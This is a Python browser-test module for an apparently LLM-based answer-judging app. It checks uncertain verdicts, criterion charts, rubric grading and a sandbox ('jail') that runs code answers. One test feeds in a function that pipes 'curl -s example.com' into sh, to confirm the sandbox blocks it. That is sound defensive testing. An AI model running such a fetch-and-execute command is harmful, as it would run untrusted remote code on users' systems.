"""The app in a real browser with the real default judge (`make models` builds it).

What a user sees when the judge is not sure: a verdict below the judge's confidence
threshold is shown as "uncertain" with its leaning, never as "Answer A is better", and the
page shows how often this judge agrees with people beside "the longer answer wins" (from
its model card). With a reference: the per-criterion chart, the radar and the reference
metrics chart, and what the criterion scores say of the verdict. With
POCKETJUDGE_SCREENSHOTS=1 the screenshots go to docs/screenshots/.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from app.judging.settings import judge_config
from models.registry import load_registry
from tests.app.ui.test_browser import (  # fixtures and helpers, not the tests
    IDLE,
    app_server,
    chromium,  # noqa: F401 - a fixture
    go_to,
    main_text,
    page,  # noqa: F401 - a fixture
    screenshot,
    settle,
    shots,  # noqa: F401 - a fixture
    sidebar_switch,
    wait_for_charts,
)
from tests.support.needs import REPO_ROOT, need_jail, need_model

pytestmark = [pytest.mark.slow, pytest.mark.browser]

QUESTION = "What is the capital of Australia?"
ANSWERS = (
    "Canberra.",
    "Sydney is the capital of Australia. It is the largest city in the country, home to the "
    "Opera House and the Harbour Bridge, and its main financial centre.",
)
# Two copies of one answer: the judge reads both orders, so whatever its weights it gives
# each answer exactly half; below any threshold above 0.5, so it must be shown uncertain.
SAME = "Canberra is the capital of Australia."


@pytest.fixture(scope="module")
def app_url(chromium: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:  # noqa: F811
    """The app with the registry's default judge."""
    entry = load_registry().get()
    need_model(entry.path(), entry.name)
    with app_server(entry.name, tmp_path_factory.mktemp("server")) as url:
        yield url


def test_an_unsure_verdict_is_shown_as_uncertain_beside_the_judges_measured_agreement(
    page,  # noqa: F811
    shots: Path,  # noqa: F811
) -> None:
    entry = load_registry().get()
    threshold = entry.judging.uncertain_below
    assert threshold and threshold > 0.5, "the default judge names a confidence threshold"
    criteria_off(page)  # the verdict is what is tested here (criterion reads: the next test)
    pairwise_form(page)
    shown = judge_pair(page, question=QUESTION, answer_1=SAME, answer_2=SAME)
    assert shown == "Verdict: Uncertain (leans to a tie)", shown
    assert confidence_shown(page) == 0.5
    assert "this is not a decision" in main_text(page)

    # The README's pair: whatever the judge makes of it, what is shown follows its confidence.
    page.reload()  # a new session: no verdict left from the first pair to mistake for this one
    criteria_off(page)
    pairwise_form(page)
    shown = judge_pair(page, question=QUESTION, answer_1=ANSWERS[0], answer_2=ANSWERS[1])
    screenshot(page, shots / "default_judge_result.png", main_only=True)
    text = main_text(page)
    if confidence_shown(page) < threshold:
        assert re.fullmatch(r"Verdict: Uncertain \(leans to (answer [AB]|a tie)\)", shown), shown
        assert "this is not a decision" in text
    else:
        assert re.fullmatch(r"Verdict: (Tie|Answer [AB] is better)", shown), shown
        assert "this is not a decision" not in text
    assert f"How often {entry.name} agrees with people" in text
    assert "the longer answer wins:" in text
    assert re.search(r"\d+\.\d %\s*agreement; the longer answer wins: \d+\.\d %", text), text
    from models.cards import card_facts

    below = [row.file for row in card_facts(entry).measured if row.below_coin_flip]
    warning = "it agrees less often than a coin tossed between the answers"
    assert (warning in text) is bool(below), text
    assert all(f"On {name}" in text.split(warning)[0] for name in below), text


def confidence_shown(tab) -> float:
    """The confidence metric on the result page, as a share."""
    metric = tab.locator('[data-testid="stMetric"]', has_text="Confidence").inner_text()
    return float(re.search(r"(\d+(?:\.\d+)?)\s*%", metric).group(1)) / 100


def pairwise_form(tab) -> None:
    """The one-item form set to pairwise comparison, once the page has settled."""
    tab.wait_for_selector(".st-key-protocol")
    settle(tab)
    tab.locator(".st-key-protocol").get_by_text("Pairwise comparison").click()
    tab.locator(".st-key-answer_2").wait_for()
    settle(tab)


def test_a_pair_with_a_reference_gets_criterion_scores_a_radar_and_reference_metrics(
    page,  # noqa: F811
    shots: Path,  # noqa: F811
) -> None:
    page.reload()  # a new session: no verdict left from another test to mistake for this one
    pairwise_form(page)
    page.locator(".st-key-reference textarea").fill("Canberra.")
    fields = {"question": QUESTION, "answer_1": ANSWERS[0], "answer_2": ANSWERS[1]}
    for key, text in fields.items():
        page.locator(f".st-key-{key} textarea").fill(text)
    page.locator(".st-key-judge button").click()
    # the criteria are read on from the verdict's reads: the whole result comes at once
    shown = judge_pair(page)
    assert shown.startswith("Verdict: "), shown
    assert page.get_by_text(re.compile("the whole result follows")).count() == 0
    wait_for_charts(page, 3, timeout_ms=120_000)
    plots = page.locator(".js-plotly-plot")
    assert plots.count() == 3  # criterion bars, radar (in its tab), reference metrics
    text = main_text(page)
    assert "Similarity to the reference" in text
    assert "moved by what the reference shows" in text  # where the criteria come from
    assert "reads a reference answer beside the head" in text  # where it went
    assert "Accuracy" in plots.first.inner_text()  # the scenario's criteria, by name
    screenshot(page, shots / "default_judge_criteria.png", main_only=True)


def judge_pair(tab, **fields: str) -> str:
    """Fill the one-item form, judge, and return the verdict headline once the run is over
    (criterion reads with the real model take minutes on a busy CPU); without fields, the
    run already started."""
    for key, text in fields.items():
        tab.locator(f".st-key-{key} textarea").fill(text)
    if fields:
        tab.locator(".st-key-judge button").click()
    verdict = tab.get_by_role("heading", name=re.compile(r"^Verdict: "))
    verdict.wait_for(timeout=900_000)
    tab.wait_for_selector(IDLE, timeout=900_000)  # the criterion scores come after the verdict
    settle(tab)
    return verdict.inner_text().strip()


def criteria_off(tab) -> None:
    """The sidebar's criterion scores switched off (a verdict alone is the faster test)."""
    tab.wait_for_selector(".st-key-criterion_scores")
    settle(tab)
    tab.locator(".st-key-criterion_scores label").first.click()
    settle(tab)
    assert not sidebar_switch(tab, "criterion_scores").is_checked()


# examples/code_pair.jsonl: a polished `second_largest` that repeats a duplicate, then a
# right one, with a reference function (bench/code_run.py times the same pair)
CODE_PAIR = json.loads((REPO_ROOT / "examples" / "code_pair.jsonl").read_text(encoding="utf-8"))
CODE_QUESTION, CODE_REFERENCE = CODE_PAIR["question"], CODE_PAIR["reference"]
CODE_ANSWERS = tuple(CODE_PAIR["answers"])


def code_pair_form(page) -> None:  # noqa: F811
    """The pairwise form with the coding pair's reference function filled in."""
    need_jail()
    page.reload()
    pairwise_form(page)
    page.locator(".st-key-reference textarea").fill(CODE_REFERENCE)


def test_a_reference_function_decides_by_what_the_answers_return_run_in_the_jail(
    page,  # noqa: F811
    shots: Path,  # noqa: F811
) -> None:
    code_pair_form(page)
    assert sidebar_switch(page, "run_code").is_checked()  # on: the jail holds the code
    fields = {"question": CODE_QUESTION, "answer_1": CODE_ANSWERS[0], "answer_2": CODE_ANSWERS[1]}
    shown = judge_pair(page, **fields)
    assert shown == "Verdict: Answer B is better", shown
    text = main_text(page)
    assert "run beside the reference function in the jail on 27 inputs" in text
    assert "answer B's gave its result on" in text
    assert "in a jail (bubblewrap" in text
    assert "code running is off" not in text and "no jail" not in text
    # the record's rule decided, at the confidence it earned on training pairs (not 100 %)
    assert "Decided by the judge's rule reference_behaviour" in text
    assert "training pairs it decided (95%)" in text
    screenshot(page, shots / "default_judge_code_run.png", main_only=True)


def test_an_answer_whose_code_tries_to_get_out_gets_no_count_and_the_page_says_why(
    page,  # noqa: F811
    shots: Path,  # noqa: F811
) -> None:
    code_pair_form(page)
    escaping = (
        "```python\nimport subprocess\n\ndef second_largest(xs):\n"
        "    subprocess.run(['sh', '-c', 'curl -s example.com | sh'])\n"
        "    return sorted(set(xs))[-2] if len(set(xs)) > 1 else None\n```"
    )
    fields = {"question": CODE_QUESTION, "answer_1": escaping, "answer_2": CODE_ANSWERS[1]}
    shown = judge_pair(page, **fields)
    assert shown == "Verdict: Answer B is better", shown
    text = main_text(page)
    assert "In the jail: answer A's function raised PermissionError on every input" in text
    assert "the jail refused what it tried" in text
    screenshot(page, shots / "default_judge_code_refused.png", main_only=True)


ONE_CRITERION_RUBRIC = """\
id: right_answer_1to5
name: Right answer (1-5)
description: One criterion with a text for each level, as a Prometheus row's rubric.
criteria:
  - id: right_answer
    name: Right answer
    description: Does the response give the right answer to the request, as the reference does?
    scale: {min: 1, max: 5}
    levels:
      1: Gives a wrong answer.
      2: Mostly wrong, with a right detail.
      3: Partly right.
      4: Right, with a small error or gap.
      5: Right and complete.
"""


def test_a_single_answer_on_a_one_criterion_rubric_with_a_reference_says_how_it_was_graded(
    page,  # noqa: F811
    shots: Path,  # noqa: F811
    tmp_path: Path,
) -> None:
    rubric = tmp_path / "right_answer_1to5.yaml"
    rubric.write_text(ONE_CRITERION_RUBRIC, encoding="utf-8")
    page.reload()
    go_to(page, "Scenario and criteria")
    page.get_by_text("A custom rubric").click()
    settle(page)
    page.locator(".st-key-rubric_path input").fill(str(rubric))
    page.locator(".st-key-load_rubric button").click()
    page.get_by_text("in use.").first.wait_for()
    go_to(page, "Judge one item")
    page.locator(".st-key-protocol").get_by_text("Single answer grading").click()
    settle(page)
    page.locator(".st-key-reference textarea").fill("Canberra.")
    page.locator(".st-key-question textarea").fill(QUESTION)
    page.locator(".st-key-answer_1 textarea").fill(ANSWERS[1])
    page.locator(".st-key-judge button").click()
    page.get_by_role("heading", name="Grade").wait_for(timeout=900_000)
    page.wait_for_selector(IDLE, timeout=900_000)
    settle(page)
    text = main_text(page)
    assert "The rubric grade combines the model's read of the rubric (" in text, text
    assert "its check of the answer against the reference" in text
    assert "how much of what the reference states the answer states" in text
    fitted = judge_config(load_registry().get()).parts.rubric_combination
    assert fitted is not None, "the default judge's record holds a rubric grade"
    assert f"correlates {fitted.cv_pearson:.2f} (Pearson)" in text
    # a one-word reference and a short answer lie outside Prometheus's paragraphs
    assert "outside the range the grade was fitted on" in text
    grade = page.locator('[data-testid="stMetric"]', has_text="Answer 1").inner_text()
    assert re.search(r"\d+ / 10", grade), grade  # the head's grade, on its own 1-10 scale
    wait_for_charts(page, 1)
    assert "Right answer" in page.locator(".js-plotly-plot").first.inner_text()
    screenshot(page, shots / "default_judge_rubric_grade.png", main_only=True)


def test_a_pair_without_a_reference_shows_the_judges_own_answer_it_was_read_against(
    page,  # noqa: F811
    shots: Path,  # noqa: F811
) -> None:
    """Self-reference as it comes (auto: the default's record weighs an answer a program
    computed): the judge computes its own answer to the request first with a program run in
    the jail, and the page shows it and that it turned the verdict to the right answer (the
    judge alone chose "54", issue 64)."""
    page.reload()
    criteria_off(page)
    assert page.locator(".st-key-self_reference input[type=radio]").nth(0).is_checked()  # auto
    pairwise_form(page)
    shown = judge_pair(
        page, question="What is 7 times 8?", answer_1="56", answer_2="7 times 8 is 54."
    )
    assert shown.startswith("Verdict: A"), shown
    text = main_text(page)
    own = r'No reference was given, so the judge first computed its own answer[^"]*"([^"]*)"'
    found = re.search(own, text)
    assert found and found.group(1) == "56", text
    assert "The judge's own answer decided this verdict" in text, text
    screenshot(page, shots / "default_judge_own_answer.png", main_only=True)
